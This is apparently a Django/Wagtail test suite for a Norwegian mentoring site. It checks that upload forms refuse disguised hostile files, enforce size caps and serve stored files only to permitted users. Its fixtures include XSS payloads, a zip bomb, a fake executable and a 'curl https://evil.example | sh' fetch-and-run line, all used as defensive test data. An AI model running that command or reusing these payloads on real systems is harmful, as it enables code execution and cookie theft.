"""Hostile files through every real upload form of the product, as the person who
may use it: each is refused with the form's own message, what was typed stays in
the form and nothing is stored. Good files are stored under a new name with the
kind their content shows, and served only through the permission-checked views.
Editors' documents (Wagtail) are checked by content too, and served only where a
page that links them may be seen."""

import io
import re
import struct
import zipfile
from dataclasses import dataclass, field

import pytest

from django import forms
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.template.defaultfilters import filesizeformat
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection, CollectionViewRestriction, Page, PageViewRestriction
from wagtail.rich_text import RichText

from courses.models import LessonPage
from home.models import HomePage, StandardPage
from mentornett.accounts.roles import StaffRole
from mentornett.documents import _page_rules
from mentornett.uploads import MB, FileKind
from network.forms import FileForm, ScanForm
from network.models import (
    Application,
    Claim,
    CollaborationAgreement,
    LearningNetworkPage,
    NetworkResourcePage,
    RelationshipKind,
    Submission,
)
from network.scheme.forms import ApplicationForm, ClaimForm
from network.scheme.services import applications
from tests.courses.fixtures import publish
from tests.factories import UserFactory
from tests.scheme.fixtures import active_relationship
from tests.site.test_uploads import (
    DOCX,
    JPEG,
    MP4,
    ODT,
    PDF,
    PNG,
    _docx,
    _of_size,
    _zip,
    archive_bomb,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("documents_on_disk")]

VTT = "\ufeffWEBVTT\n\n00:00.000 --> 00:02.000\nHei, jeg heter Marit. Æ, ø og å.\n".encode()


def _many_entries(count=6000):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        for n in range(count):
            archive.writestr(f"x/{n}", b"")
    return buffer.getvalue()


BOMB = archive_bomb()  # an ODT of 60 KB that unpacks to 60 MB
_BOMB_ENTRY = zipfile.ZipFile(io.BytesIO(BOMB)).infolist()[-1]
BOMB_REFUSAL = (
    f"En del av dette dokumentet blir {_BOMB_ENTRY.file_size // _BOMB_ENTRY.compress_size} "
    "ganger større når det pakkes ut; høyst 200 ganger er tillatt, for å beskytte serveren. "
    "Åpne det i tekstbehandleren og lagre det på nytt, eller eksporter det som PDF."
)

# name → (file name, content): each disguised as something a form might accept.
HOSTILE = {
    "html as pdf": ("sluttrapport.pdf", b"<!DOCTYPE html><script>alert(document.cookie)</script>"),
    "html as jpg": ("kvittering.jpg", b"<html><img src=x onerror=alert(1)></html>"),
    "svg as png": ("plakat.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg as pdf": ("avtale.pdf", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'),
    "script without pdf header": ("avtale.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
    "exe as docx": ("kontrakt.docx", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00"),
    "docm as docx": (
        "kontrakt.docx",
        _docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60, zipfile.ZIP_STORED)),
    ),
    "zip with thousands of entries as odt": ("rapport.odt", _many_entries()),
    "archive bomb as odt": ("rapport.odt", BOMB),
    "plain zip as odt": ("rapport.odt", _zip([("a.txt", b"hei", zipfile.ZIP_DEFLATED)])),
    "gif/html polyglot": ("plakat.png", b"GIF89a/*<html><script>alert(1)</script>*/=1;"),
    "vtt with nul bytes": ("teksting.vtt", b"WEBVTT\n\n00:00.000 --> 00:01.000\nHei\x00\x00"),
    "vtt that is not utf-8": ("teksting.vtt", b"WEBVTT\n\n00:00.000 --> 00:01.000\nR\xf8ros\n"),
    "heic as mp4": ("film.mp4", struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic"),
    "empty": ("kvittering.pdf", b""),
}

EMPTY = "Filen er tom. Velg filen på nytt."
DOCUMENT_KINDS = "PDF, PNG eller JPEG"
OFFICE_KINDS = "PDF, PNG, JPEG, Word-dokument (DOCX) eller OpenDocument-tekst (ODT)"
TASK_KINDS = "PDF, PNG, JPEG, MP4-video, Word-dokument (DOCX) eller OpenDocument-tekst (ODT)"


def upload(name, content):
    # The browser's word for the type is the attacker's to choose: always "PDF".
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def _files(storage, directory=""):
    try:
        directories, files = storage.listdir(directory)
    except FileNotFoundError:
        return set()
    found = {f"{directory}/{name}".lstrip("/") for name in files}
    for sub in directories:
        found |= _files(storage, f"{directory}/{sub}".lstrip("/"))
    return found


def _read(response):
    try:
        return b"".join(response.streaming_content) if response.streaming else response.content
    finally:
        # What response.close() does but its request_finished signal, which would
        # close the test's database connection.
        for close in response._resource_closers:
            close()


# --- the upload forms of the product ------------------------------------------------


@dataclass
class Target:
    """One real upload form, signed in as someone who may use it."""

    url: str
    field: str
    kinds: str
    data: dict = field(default_factory=dict)
    kept: tuple = ()
    form_class: type | None = None
    stored: object = None  # () -> names of stored files of the form's rows
    download: object = None  # () -> the permission-checked address of what was stored
    outsider: object = None
    prefix: str = ""

    @property
    def allowed(self):
        return self.form_class.base_fields[self.field].allowed

    def refusal(self, name, content):
        if not content:
            return EMPTY
        if content == BOMB and FileKind.ODT in self.allowed:
            return BOMB_REFUSAL
        return f"Denne filtypen kan ikke brukes her. Last opp {self.kinds}."


def _agreement_scan(request, client):
    world = request.getfixturevalue("world")
    client.force_login(world.coordinator_a)
    team = world.team_a

    def stored():
        return [a.scan.name for a in CollaborationAgreement.objects.filter(team=team) if a.scan]

    return Target(
        url=reverse("network:agreement", args=[team.pk]),
        field="scan",
        kinds=DOCUMENT_KINDS,
        data={"action": "scan"},
        form_class=ScanForm,
        stored=stored,
        download=lambda: reverse("network:agreement_scan", args=[team.pk]),
        outsider=world.coordinator_b,
        prefix="agreements",
    )


def _task_file(request, client):
    world = request.getfixturevalue("world")
    client.force_login(world.coordinator_a)
    team, task = world.team_a, world.file_task

    def stored():
        return [s.file.name for s in Submission.objects.filter(team=team, task=task) if s.file]

    return Target(
        url=reverse("network:upload", args=[team.pk, task.pk]),
        field="file",
        kinds=TASK_KINDS,
        form_class=FileForm,
        stored=stored,
        download=lambda: reverse("network:draft_file", args=[team.pk, task.pk]),
        outsider=world.coordinator_b,
        prefix="submissions",
    )


def _contract(request, client):
    scheme = request.getfixturevalue("scheme")
    application = applications.start_application(
        user=scheme.mentor, role="mentor", kind=RelationshipKind.TEMPORARY_LICENCE
    )
    client.force_login(scheme.mentor)

    def stored():
        found = Application.objects.get(pk=application.pk)
        assert found.employer in ("", "Glåmdal veterinærkontor AS")
        return [found.contract.name] if found.contract else []

    return Target(
        url=reverse("scheme:application", args=[application.pk]),
        field="contract",
        kinds=OFFICE_KINDS,
        data={
            "employer": "Glåmdal veterinærkontor AS",
            "backup_plan": "Bakvakt hos kollega i nabokommunen.",
            "planned_use": "Bolig de første ukene.",
        },
        kept=("Glåmdal veterinærkontor AS", "Bakvakt hos kollega i nabokommunen."),
        form_class=ApplicationForm,
        stored=stored,
        download=lambda: reverse("scheme:contract", args=[application.pk]),
        outsider=UserFactory(),
        prefix="contracts",
    )


def _claim_data():
    return {
        "category": "travel",
        "description": "Tog Oslo–Kongsvinger t/r",
        "amount": "840",
        "spent_on": "2026-01-04",
    }


def _receipt(request, client):
    scheme = request.getfixturevalue("scheme")
    application = active_relationship(scheme)
    client.force_login(scheme.mentee)

    def stored():
        return [c.receipt.name for c in Claim.objects.filter(application=application)]

    return Target(
        url=reverse("scheme:claims", args=[application.pk]),
        field="receipt",
        kinds=DOCUMENT_KINDS,
        data=_claim_data(),
        kept=("Tog Oslo–Kongsvinger t/r", 'value="840"'),
        form_class=ClaimForm,
        stored=stored,
        download=lambda: reverse("scheme:claim_file", args=[Claim.objects.get().pk, "kvittering"]),
        outsider=UserFactory(),
        prefix="receipts",
    )


def _employment_document(request, client):
    target = _receipt(request, client)
    target.field = "employment_document"
    target.kinds = OFFICE_KINDS
    target.data = {**target.data, "receipt": ("kvittering.pdf", PDF)}
    target.download = None  # kept only with an insemination course fee
    return target


TARGETS = {
    "agreement scan": _agreement_scan,
    "home task file": _task_file,
    "employment contract": _contract,
    "claim receipt": _receipt,
    "claim employment document": _employment_document,
}


@pytest.fixture(params=list(TARGETS))
def target(request, client):
    return TARGETS[request.param](request, client)


def _private_storage():
    # The models' storage, made at import: the settings fixture below makes new ones.
    return CollaborationAgreement._meta.get_field("scan").storage


def _post(client, target, file):
    before = _files(_private_storage())
    # (name, content) is a file of its own for each request.
    data = {k: upload(*v) if isinstance(v, tuple) else v for k, v in target.data.items()}
    response = client.post(target.url, {**data, target.field: file})
    return response, _files(_private_storage()) - before


def _errors(response, target):
    for name in ("form", "file_form", "scan_form"):
        form = response.context.get(name) if response.context else None
        if form is not None and target.field in getattr(form, "errors", {}):
            return form.errors[target.field]
    raise AssertionError(f"no error on {target.field}")


def test_every_upload_form_refuses_hostile_files_and_keeps_the_rest(client, target):
    for hostile, (name, content) in HOSTILE.items():
        response, new_files = _post(client, target, upload(name, content))
        assert response.status_code in (200, 400), hostile
        expected = target.refusal(name, content)
        assert _errors(response, target) == [expected], hostile
        html = response.content.decode()
        assert expected in html, hostile
        for typed in target.kept:
            assert typed in html, hostile
        assert target.stored() == [], hostile
        assert new_files == set(), hostile


CAP_REFUSALS = {
    "documents": (
        "Dokumenter kan være på høyst {limit}, og dette er på {size}. Gjør det mindre, for "
        "eksempel med mindre bilder i, eller del det et annet sted og skriv lenken i teksten."
    ),
    "images": (
        "Bilder kan være på høyst {limit}, og dette er på {size}. "
        "Lagre det med lavere oppløsning og last det opp på nytt."
    ),
    "films": (
        "Filmer kan være på høyst {limit}, og denne er på {size}. Eksporter den med lavere "
        "oppløsning, eller del den et annet sted og skriv lenken i teksten."
    ),
}
KIND_CAPS = {
    FileKind.PDF: "documents",
    FileKind.DOCX: "documents",
    FileKind.ODT: "documents",
    FileKind.PNG: "images",
    FileKind.JPEG: "images",
    FileKind.MP4: "films",
}


def _cap_refusal(kind, cap, size):
    limit = filesizeformat(cap).replace(",0", "")  # whole megabytes are written "2 MB"
    return CAP_REFUSALS[KIND_CAPS[kind]].format(limit=limit, size=filesizeformat(size))


def test_every_upload_form_refuses_a_file_one_byte_over_its_kinds_cap(client, target, settings):
    caps = {"documents": 2 * MB, "images": 1 * MB, "films": 3 * MB}
    settings.UPLOAD_MAX_DOCUMENT_BYTES = caps["documents"]
    settings.UPLOAD_MAX_IMAGE_BYTES = caps["images"]
    settings.UPLOAD_MAX_FILM_BYTES = caps["films"]
    for kind in target.allowed:
        cap = caps[KIND_CAPS[kind]]
        response, new_files = _post(client, target, upload("stor", _of_size(kind, cap + 1)))
        assert _errors(response, target) == [_cap_refusal(kind, cap, cap + 1)], kind
        for typed in target.kept:
            assert typed in response.content.decode(), kind
        assert target.stored() == [] and new_files == set(), kind

    just_right = upload("akkurat.pdf", _of_size(FileKind.PDF, caps["documents"]))
    response, new_files = _post(client, target, just_right)
    assert response.status_code == 302
    # A travel claim keeps only the receipt; the employment document is for course fees.
    assert len(new_files) == 1


FIELDS = [
    (ScanForm, "scan"),
    (FileForm, "file"),
    (ApplicationForm, "contract"),
    (ClaimForm, "receipt"),
    (ClaimForm, "employment_document"),
]


@pytest.mark.parametrize(("form_class", "name"), FIELDS)
def test_the_real_caps_hold_on_every_form(form_class, name):
    """20 MB for documents and 10 MB for images, on every form; films 300 MB."""
    field = form_class.base_fields[name]
    for kind, cap in [(FileKind.PDF, 20 * MB), (FileKind.PNG, 10 * MB)]:
        if kind not in field.allowed:
            continue
        assert field.clean(upload("akkurat", _of_size(kind, cap))).detected_kind == kind
        with pytest.raises(forms.ValidationError) as caught:
            field.clean(upload("stor", _of_size(kind, cap + 1)))
        assert caught.value.messages == [_cap_refusal(kind, cap, cap + 1)]
    if FileKind.MP4 in field.allowed:
        # A film is not a document: 21 MB is well within its cap.
        film = upload("film.mp4", _of_size(FileKind.MP4, 21 * MB))
        assert field.clean(film).detected_kind == FileKind.MP4


def test_a_home_task_pdf_of_21_mb_is_refused_and_a_film_of_21_mb_is_not(client, request):
    target = _task_file(request, client)
    response, new_files = _post(
        client, target, upload("plakat.pdf", _of_size(FileKind.PDF, 21 * MB))
    )
    assert _errors(response, target) == [_cap_refusal(FileKind.PDF, 20 * MB, 21 * MB)]
    assert "høyst 20\xa0MB" in response.content.decode()
    assert target.stored() == [] and new_files == set()

    response, new_files = _post(client, target, upload("film.mp4", _of_size(FileKind.MP4, 21 * MB)))
    assert response.status_code == 302
    assert len(new_files) == 1


# name, content, the extension it must be stored with
GOOD = {
    "agreement scan": ("Signert avtale.jpeg", JPEG, "jpg"),
    "home task file": ("Film fra Sarpsborg.mp4", MP4, "mp4"),
    "employment contract": ("Kontrakt <Kari>.docx", DOCX, "docx"),
    "claim receipt": ("kvittering.pdf", PNG, "png"),  # a photo named .pdf is a photo
}


@pytest.mark.parametrize("which", list(GOOD))
def test_a_good_file_is_stored_under_a_new_name_and_served_only_to_its_people(
    client, request, which
):
    target = TARGETS[which](request, client)
    name, content, extension = GOOD[which]
    response, new_files = _post(client, target, upload(name, content))
    assert response.status_code == 302
    (stored,) = target.stored()
    assert re.fullmatch(rf"{target.prefix}/\d{{4}}/[0-9a-f]{{32}}\.{extension}", stored)
    assert new_files == {stored}

    response = client.get(target.download())
    assert response.status_code == 200
    assert _read(response) == content
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].rstrip('"').endswith(f".{extension}")
    assert not set('<>"') & set(response["Content-Disposition"].split("filename=")[1][1:-1])
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] not in ("text/html", "image/svg+xml")

    client.force_login(target.outsider)
    assert client.get(target.download()).status_code == 404
    client.logout()
    assert client.get(target.download()).status_code in (302, 404)


def test_the_file_pickers_hint_at_each_forms_kinds():
    assert 'accept=".pdf,.png,.jpg,.jpeg,' in str(ScanForm()["scan"])
    assert ".mp4" in str(FileForm()["file"]) and ".vtt" not in str(FileForm()["file"])


# --- editors' documents and images (Wagtail) ---------------------------------------


@pytest.fixture
def editor(client, staff_user):
    person = staff_user(StaffRole.EDITOR)
    client.force_login(person)
    return person


def _root_collection():
    return Collection.get_first_root_node()


def _document_form_errors(client, name, content, title="Kursplan for mentorer"):
    response = client.post(
        reverse("wagtaildocs:add"),
        {"title": title, "collection": _root_collection().pk, "file": upload(name, content)},
    )
    assert response.status_code == 200
    assert title in response.content.decode()
    return response.context["form"].errors["file"]


DOCUMENT_MISMATCH = (
    "Filen heter .{ext}, men innholdet er ikke {kind}. "
    "Eksporter den på nytt som {kind}, eller velg riktig fil."
)
DOCUMENT_EXTENSIONS = "Dokumenter kan være PDF, DOCX, ODT, MP4 (filmer) eller WebVTT (teksting)."
KIND_NAMES = {
    "pdf": "PDF",
    "docx": "Word-dokument (DOCX)",
    "odt": "OpenDocument-tekst (ODT)",
    "mp4": "MP4-video",
    "vtt": "WebVTT-teksting",
}


def test_the_document_form_refuses_hostile_files(client, editor):
    before = _files(default_storage, "documents")
    for hostile, (name, content) in HOSTILE.items():
        errors = _document_form_errors(client, name, content)
        extension = name.rsplit(".", 1)[1]
        if not content:
            assert errors == ["Filen er tom."], hostile  # Django's own message
        elif content == BOMB:
            assert errors == [BOMB_REFUSAL], hostile
        elif extension in KIND_NAMES:
            kind = KIND_NAMES[extension]
            assert errors == [DOCUMENT_MISMATCH.format(ext=extension, kind=kind)], hostile
        else:
            assert errors == [DOCUMENT_EXTENSIONS], hostile
    assert not Document.objects.exists()
    assert _files(default_storage, "documents") == before


def test_documents_have_the_document_cap_and_films_the_film_cap(client, editor, settings):
    settings.UPLOAD_MAX_DOCUMENT_BYTES = 1 * MB
    for name in ("Kursplan.pdf", "Kursplan.docx"):
        kind = FileKind.from_name(name)
        errors = _document_form_errors(client, name, _of_size(kind, MB + 1))
        assert errors == [_cap_refusal(kind, MB, MB + 1)]
    errors = _document_form_errors(client, "Teksting.vtt", VTT + b"\n" * MB)
    assert errors[0].startswith("Dokumenter kan være på høyst 1\xa0MB")
    assert not Document.objects.exists()
    film = MP4 + b"\x00" * (MB + 1 - len(MP4))
    response = client.post(
        reverse("wagtaildocs:add"),
        {"title": "Film", "collection": _root_collection().pk, "file": upload("film.mp4", film)},
    )
    assert response.status_code == 302
    assert Document.objects.get().file_size == MB + 1


def test_the_multiple_uploader_refuses_them_too(client, editor):
    for name, content in HOSTILE.values():
        if not content:
            continue
        response = client.post(
            reverse("wagtaildocs:add_multiple"),
            {"files[]": upload(name, content), "collection": _root_collection().pk},
        )
        assert response.json()["success"] is False, name
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("Kursplan 2026.pdf", PDF, "application/pdf"),
        (
            "Mal for statusrapport.docx",
            DOCX,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("Notat.odt", ODT, "application/vnd.oasis.opendocument.text"),
        ("Mentor forteller.mp4", MP4, "video/mp4"),
        ("Teksting.vtt", VTT, "text/vtt"),
        ("Teksting uten BOM.vtt", b"WEBVTT", "text/vtt"),
    ],
)
def test_the_document_form_takes_real_documents_under_a_new_name(
    client, editor, name, content, content_type
):
    response = client.post(
        reverse("wagtaildocs:add"),
        {"title": "Dokument", "collection": _root_collection().pk, "file": upload(name, content)},
    )
    assert response.status_code == 302, response.context["form"].errors
    document = Document.objects.get()
    extension = name.rsplit(".", 1)[1]
    assert re.fullmatch(rf"documents/[a-z0-9-]+-[0-9a-f]{{16}}\.{extension}", document.file.name)
    response = client.get(document.url)
    assert response.status_code == 200
    assert _read(response) == content
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_images_cannot_be_svg_or_html(client, editor):
    for name, content in [
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("logo.gif", b"GIF89a/*<html><script>alert(1)</script>*/"),
    ]:
        response = client.post(
            reverse("wagtailimages:add"),
            {"title": "Logo", "collection": _root_collection().pk, "file": upload(name, content)},
        )
        assert response.status_code == 200, name
        assert response.context["form"].errors["file"], name
        assert "Logo" in response.content.decode()
    assert not Image.objects.exists()


# --- who may download an editor's document -------------------------------------------


def _document(name="Kursplan.pdf", content=PDF, **fields):
    return Document.objects.create(title=name, file=ContentFile(content, name=name), **fields)


def _linking(document):
    return [("document", {"document": document, "title": "Last ned"})]


@pytest.fixture
def resource_page(world):
    def make(document, network=None, slug="fra-samlingene"):
        return publish(
            network or world.network,
            NetworkResourcePage(title="Fra samlingene", slug=slug, body=_linking(document)),
        )

    return make


def _status(client, document, who=None):
    if who is None:
        client.logout()
    else:
        client.force_login(who)
    response = client.get(document.url)
    if response.status_code == 200:
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Type"] not in ("text/html", "image/svg+xml")
        _read(response)
    return response.status_code


def test_a_document_on_a_members_only_resource_page_is_for_members(
    client, world, resource_page, participant
):
    document = _document()
    resource_page(document)
    for member in (world.member_a, world.coordinator_b, world.advisor_a, world.organiser):
        assert _status(client, document, member) == 200
    assert _status(client, document, participant) == 404
    assert _status(client, document) == 404


def test_a_document_on_a_public_page_is_for_everyone(client, participant):
    document = _document()
    publish(HomePage.objects.get(), StandardPage(title="Om", slug="om", body=_linking(document)))
    assert _status(client, document) == 200
    assert _status(client, document, participant) == 200


def test_a_document_linked_from_a_draft_or_nowhere_is_for_editors_only(
    client, participant, staff_user
):
    linked_from_draft = _document("Utkast.pdf")
    page = StandardPage(title="Kommer", slug="kommer", body=_linking(linked_from_draft))
    HomePage.objects.get().add_child(instance=page)
    page.save_revision()
    unpublished = Page.objects.get(pk=page.pk)
    unpublished.live = False
    unpublished.save()
    nowhere = _document("Gammel.pdf")
    for document in (linked_from_draft, nowhere):
        assert _status(client, document) == 404
        assert _status(client, document, participant) == 404
        assert _status(client, document, staff_user(StaffRole.EDITOR)) == 200


def test_the_members_part_of_a_network_page_is_for_members_and_the_library_for_all(
    client, world, participant
):
    members_only, library = _document("Referat.pdf"), _document("Veileder.pdf")
    network = LearningNetworkPage.objects.get(pk=world.network.pk)
    network.members_body = _linking(members_only)
    network.resources = _linking(library)
    network.save_revision().publish()
    assert _status(client, members_only, world.member_a) == 200
    assert _status(client, members_only, participant) == 404
    assert _status(client, members_only) == 404
    assert _status(client, library) == 200


def test_a_lesson_film_follows_the_course(client, make_course, participant):
    film, captions = _document("Film.mp4", MP4), _document("Teksting.vtt", VTT)
    body = [
        (
            "video",
            {
                "title": "Film",
                "video": film,
                "captions": captions,
                "transcript": RichText("<p>Hei</p>"),
            },
        )
    ]
    make_course(lessons=1, body=body)
    for document in (film, captions):
        assert _status(client, document) == 404
        assert _status(client, document, participant) == 200
    response = client.get(captions.url)
    assert response["Content-Type"] == "text/vtt"
    assert _read(response) == VTT


def test_an_open_courses_lesson_documents_are_public(client, make_course):
    document = _document()
    make_course(lessons=1, body=_linking(document), open_access=True)
    assert _status(client, document) == 200


def test_a_page_view_restriction_applies_to_its_documents(client, participant, other_participant):
    document = _document()
    page = publish(
        HomePage.objects.get(), StandardPage(title="Intern", slug="intern", body=_linking(document))
    )
    restriction = PageViewRestriction.objects.create(
        page=page, restriction_type=PageViewRestriction.GROUPS
    )
    group = Group.objects.create(name="Piloter")
    restriction.groups.add(group)
    participant.groups.add(group)
    assert _status(client, document) == 404
    assert _status(client, document, other_participant) == 404
    assert _status(client, document, participant) == 200
    restriction.restriction_type = PageViewRestriction.LOGIN
    restriction.save()
    assert _status(client, document) == 404
    assert _status(client, document, other_participant) == 200


def test_a_collection_view_restriction_still_applies(client, participant):
    collection = _root_collection().add_child(name="Interne")
    CollectionViewRestriction.objects.create(
        collection=collection, restriction_type=CollectionViewRestriction.LOGIN
    )
    document = _document(collection=collection)
    publish(HomePage.objects.get(), StandardPage(title="Om", slug="om", body=_linking(document)))
    response = client.get(document.url)
    assert response.status_code == 302
    assert "login/?next=/dokumenter/" in response["Location"]
    assert _status(client, document, participant) == 200


def test_checking_a_document_costs_the_same_however_many_pages_link_it(
    client, world, resource_page, participant
):
    one, many = _document("En.pdf"), _document("Mange.pdf")
    resource_page(one, slug="en")
    for n in range(5):
        resource_page(many, slug=f"mange-{n}")

    def cost(document, who):
        client.force_login(who)
        _read(client.get(document.url))  # warm the content types and the session
        with CaptureQueriesContext(connection) as queries:
            response = client.get(document.url)
        _read(response)
        return len(queries)

    for who in (world.member_a, participant):
        assert cost(one, who) == cost(many, who)
    # The user, the document, the check (collection permissions, references, live
    # pages, their tree, view restrictions, membership), and the not-found page.
    assert cost(many, participant) <= 11


# Page types whose serve() lets everyone in who passes the view restrictions; every
# other type that overrides serve() must have a rule in mentornett.documents.
PUBLIC_SERVE = {
    "courses.ModulePage": "redirects to its course page, which is public",
    "events.EventPage": "an event's page is public; registration is what is limited",
}


def test_every_page_type_that_limits_its_readers_has_a_document_rule():
    from wagtail.models import get_page_models

    ruled = {model._meta.label for model in _page_rules()}
    limited = {
        model._meta.label
        for model in get_page_models()
        if "serve" in vars(model) and model is not Page
    }
    assert limited - ruled - set(PUBLIC_SERVE) == set()
    assert LessonPage._meta.label in ruled
